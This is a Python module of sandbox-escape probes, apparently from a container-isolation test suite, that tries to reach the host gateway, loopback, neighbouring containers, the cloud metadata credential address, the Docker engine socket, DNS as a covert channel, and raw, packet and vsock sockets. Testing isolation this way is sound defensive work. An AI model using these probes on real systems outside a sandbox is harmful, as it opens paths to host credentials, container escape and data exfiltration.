"""Attacks on the network: call home, reach the host, open kinds of sockets that no server needs."""

import socket
from typing import Final

from tiltyard_sandbox.attacks.inside.base import Aims, Refused, attack

CONNECT_S: Final = 2.0
METADATA: Final = ("169.254.169.254", 80)


def _greeted(address: tuple[str, int]) -> str:
    with socket.create_connection(address, timeout=CONNECT_S) as connection:
        return f"connected to {address[0]}:{connection.getpeername()[1]}"


@attack
def gateway(aims: Aims) -> str:
    """A service of the host, on the address through which containers leave."""
    host, port = aims.target("gateway")
    return _greeted((host, port))


@attack
def host_loopback(aims: Aims) -> str:
    """A service that the host offers to itself alone."""
    return _greeted(("127.0.0.1", aims.target("loopback_port")))


@attack
def neighbour(aims: Aims) -> str:
    """Another container of the same engine."""
    host, port = aims.target("neighbour")
    return _greeted((host, port))


@attack
def metadata(_aims: Aims) -> str:
    """The address where clouds hand out credentials."""
    return _greeted(METADATA)


@attack
def datagram(aims: Aims) -> str:
    """Send a message away without waiting for an answer."""
    host, port = aims.target("datagram")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(CONNECT_S)
        sender.sendto(b"hidden question", (host, port))
        if sender.recv(16) != b"got it":
            raise Refused("no answer")
    return "the host answered"


@attack
def dns(_aims: Aims) -> str:
    """Hide a message in a name and ask for it."""
    try:
        found = socket.getaddrinfo("hidden-question.example.org", 80)
    except socket.gaierror as error:
        raise Refused(f"no name server: {error.strerror}") from None
    return f"resolved to {found[0][4][0]}"


@attack
def interfaces(_aims: Aims) -> str:
    """Find an interface beside the loopback."""
    found = [name for _, name in socket.if_nameindex() if name != "lo"]
    if not found:
        raise Refused("lo alone")
    return ", ".join(found)


@attack
def abstract_socket(aims: Aims) -> str:
    """A socket of the host that has a name but no file (containerd's was one: CVE-2020-15257)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(CONNECT_S)
        client.connect("\0" + aims.target("abstract_socket"))
    return "connected"


@attack
def engine_socket(_aims: Aims) -> str:
    """The engine's own socket, which is as good as root on the host."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(CONNECT_S)
        client.connect("/var/run/docker.sock")
        client.sendall(b"GET /_ping HTTP/1.0\r\n\r\n")
        return client.recv(64).decode(errors="replace").split("\r", 1)[0]


def _socket(family: int, kind: int, protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol):
        return "opened"


@attack
def vsock(_aims: Aims) -> str:
    """A socket to the hypervisor and to services of the host that listen there."""
    return _socket(40, socket.SOCK_STREAM)


@attack
def raw_socket(_aims: Aims) -> str:
    """Forge packets."""
    return _socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def packet_socket(_aims: Aims) -> str:
    """Listen to what passes by on the wire."""
    return _socket(17, socket.SOCK_RAW)


@attack
def netlink_events(_aims: Aims) -> str:
    """Listen to the kernel's messages about devices."""
    return _socket(16, socket.SOCK_RAW, 15)


@attack
def kernel_crypto(_aims: Aims) -> str:
    """Sockets to the kernel's cryptography, another one."""
    return _socket(38, socket.SOCK_SEQPACKET)


@attack
def express_socket(_aims: Aims) -> str:
    """Take packets past the kernel's network stack."""
    return _socket(44, socket.SOCK_RAW)
